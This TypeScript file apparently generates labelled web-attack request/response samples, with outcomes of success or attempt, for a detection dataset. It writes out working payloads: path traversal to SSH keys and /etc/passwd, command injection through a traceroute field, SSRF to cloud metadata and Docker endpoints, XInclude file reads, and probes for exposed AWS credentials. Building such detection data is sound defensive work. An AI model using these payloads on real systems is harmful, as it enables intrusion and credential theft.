import { body, type LabelledAttack } from '../attack.ts';
import type { ReplyCase } from '../half-corpus.ts';
import type { Random } from '../random.ts';
import { asked, page, text } from './answers.ts';
import { databaseSpeaks, documentError, waitsOrNot } from './outcomes-database.ts';
import { comesBack, comesBackSafe, computed, notComputed, split } from './outcomes-pages.ts';
import { CARE, MEDIA, OPS } from './places.ts';

function fileShown(r: Random): LabelledAttack {
  const kinds = [
    ['proc/self/environ', `PATH=/usr/local/bin:/usr/bin\u0000HOSTNAME=pod-${r.hex(4)}\u0000HOME=/root\u0000`],
    [
      'home/deploy/.ssh/id_rsa',
      `-----BEGIN OPENSSH ${'PRIV'}ATE KEY-----\n${r.token(64)}\n${r.token(64)}\n-----END OPENSSH ${'PRIV'}ATE KEY-----\n`,
    ],
    [
      'etc/passwd',
      `root:x:0:0:root:/root:/bin/ash\nbin:x:1:1:bin:/bin:/sbin/nologin\nnobody:x:65534:65534:nobody:/:/sbin/nologin\nsvc${r.hex(2)}:x:1001:1001::/srv:/bin/sh\n`,
    ],
  ] as const;
  const [file, content] = r.pick(kinds);
  return asked(
    'path-traversal',
    MEDIA,
    '/stream',
    'track',
    `playlists/${'../'.repeat(r.int(4, 9))}${file}`,
  )('file shown', 'success', text(content));
}

function fileNotShown(r: Random): LabelledAttack {
  const say = asked('path-traversal', CARE, '/scans/view', 'image', `${'..\\'.repeat(r.int(4, 9))}boot.ini`);
  return say(
    'placeholder image',
    'attempt',
    r.pick([
      { status: 200, responseHeaders: { 'content-type': 'image/png' }, responseBody: '\u0089PNG' },
      page('The image boot.ini does not exist.'),
      { status: 200, responseBody: '{"image":null}' },
    ]),
  );
}

function commandSpeaks(r: Random): LabelledAttack {
  const [command, output] = r.pick([
    [
      'cmd /c dir c:\\',
      ' Volume in drive C has no label.\r\n Volume Serial Number is 1C2B-3D4E\r\n\r\n Directory of c:\\\r\n',
    ],
    ['id', `uid=0(root) gid=0(root) groups=0(root),10(wheel)`],
    ['cat$IFS/proc/version', 'Linux version 6.1.0-18-amd64 (debian-kernel@lists.debian.example) (gcc-12)'],
    [
      'net user',
      '\r\nUser accounts for \\\\WEB01\r\n\r\n-------------------------------\r\nAdministrator            Guest\r\n',
    ],
  ] as const);
  return asked(
    'command-injection',
    OPS,
    '/net/traceroute',
    'target',
    `192.0.2.${r.int(2, 250)}${r.pick(['|', ';', '&&'])}${command}`,
    ['path-traversal'],
  )('output shown', 'success', text(`traceroute to 192.0.2.9, 30 hops max\n${output}`));
}

function commandSilent(r: Random): LabelledAttack {
  return asked(
    'command-injection',
    OPS,
    '/net/traceroute',
    'target',
    `192.0.2.${r.int(2, 250)};id;${r.hex(2)}`,
  )(
    'command refused',
    'attempt',
    r.pick([
      text('traceroute: unknown host'),
      { status: 200, responseBody: JSON.stringify({ hops: [], uid: r.uuid(), groups: [] }) },
    ]),
  );
}

function metadataShown(r: Random): LabelledAttack {
  const [url, answer] = r.pick([
    [
      'http://169.254.169.254/latest/meta-data/',
      text(
        'ami-id\nami-launch-index\nblock-device-mapping/\nhostname\niam/\ninstance-id\ninstance-type\nlocal-ipv4\nmac\n',
      ),
    ],
    [
      'http://127.1:2375/containers/json',
      {
        status: 200,
        responseBody: JSON.stringify([
          {
            Id: r.hex(64),
            Names: [`/web-${r.hex(2)}`],
            Image: 'nginx',
            HostConfig: { NetworkMode: 'bridge' },
            Mounts: [],
          },
        ]),
      },
    ],
    [
      'http://[::ffff:169.254.169.254]/computeMetadata/v1/instance/service-accounts/default/token',
      {
        status: 200,
        responseBody: JSON.stringify({
          access_token: `${'ya'}29.${r.token(60)}`,
          expires_in: 3599,
          token_type: 'Bearer',
        }),
      },
    ],
  ] as const);
  return asked('ssrf', MEDIA, '/proxy', 'u', `${url}?${r.hex(3)}`)('inner answer shown', 'success', answer);
}

function metadataHidden(r: Random): LabelledAttack {
  return asked(
    'ssrf',
    MEDIA,
    '/proxy',
    'u',
    `http://${r.pick(['0x7f000001', '127.1', '2852039166'])}/${r.hex(4)}`,
  )(
    'refused',
    'attempt',
    r.pick([
      { status: 400, responseBody: '{"code":"E_URL"}' },
      { status: 200, responseBody: JSON.stringify({ html: null, provider: null, error: 'blocked' }) },
    ]),
  );
}

function included(r: Random): LabelledAttack {
  const asText =
    `<a${r.hex(2)} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>`.replace(
      /<a(..)(.*)<\/a>$/,
      '<a$1$2</a$1>',
    );
  return {
    family: 'xxe',
    accepted: ['xxe', 'path-traversal', 'ssrf'],
    technique: 'file included',
    outcome: 'success',
    location: 'request.body',
    shown: asText,
    exchange: {
      method: 'POST',
      host: CARE,
      path: '/hl7/import',
      ...body('text/xml', asText),
      status: 200,
      responseHeaders: { 'content-type': 'text/xml' },
      responseBody:
        '<ack><text>root:x:0:0:root:/root:/bin/bash\nmail:x:8:8:mail:/var/mail:/usr/sbin/nologin</text></ack>',
    },
  };
}

function leftOpen(r: Random): LabelledAttack {
  const sql = r.chance(0.5);
  const path = `${r.pick(['', '/old', '/backup', '/www'])}${sql ? '/dump.sql' : '/.aws/credentials'}`;
  const content = sql
    ? `-- MySQL dump 10.13  Distrib 8.0.36\nDROP TABLE IF EXISTS \`member\`;\nCREATE TABLE \`member\` (\`id\` int);\nINSERT INTO \`member\` VALUES (${r.int(1, 9)});\n`
    : `[default]\naws_${'access'}_key_id = ${'AK'}IA${r.text(16, 'ABCDEFGHJKLMNPQRSTUVWXYZ234567')}\naws_${'secret'}_access_key = ${r.token(40)}\n`;
  return {
    family: 'scanner',
    accepted: ['scanner', 'path-traversal'],
    technique: 'file left open',
    outcome: 'success',
    location: 'request.path',
    shown: path,
    exchange: { method: 'GET', host: OPS, path, ...text(content) },
  };
}

export const OUTCOMES: readonly ReplyCase[] = [
  { family: 'sql-injection', attack: databaseSpeaks, count: 30 },
  { family: 'sql-injection', attack: waitsOrNot, count: 16 },
  { family: 'path-traversal', attack: fileShown, count: 24 },
  { family: 'path-traversal', attack: fileNotShown, count: 14 },
  { family: 'xss', attack: comesBack, count: 24 },
  { family: 'xss', attack: comesBackSafe, count: 24 },
  { family: 'command-injection', attack: commandSpeaks, count: 24 },
  { family: 'command-injection', attack: commandSilent, count: 12 },
  { family: 'ssrf', attack: metadataShown, count: 24 },
  { family: 'ssrf', attack: metadataHidden, count: 14 },
  { family: 'template-injection', attack: computed, count: 24 },
  { family: 'template-injection', attack: notComputed, count: 20 },
  { family: 'crlf-injection', attack: split, count: 24 },
  { family: 'xxe', attack: included, count: 12 },
  { family: 'nosql-injection', attack: documentError, count: 20 },
  { family: 'scanner', attack: leftOpen, count: 8 },
];
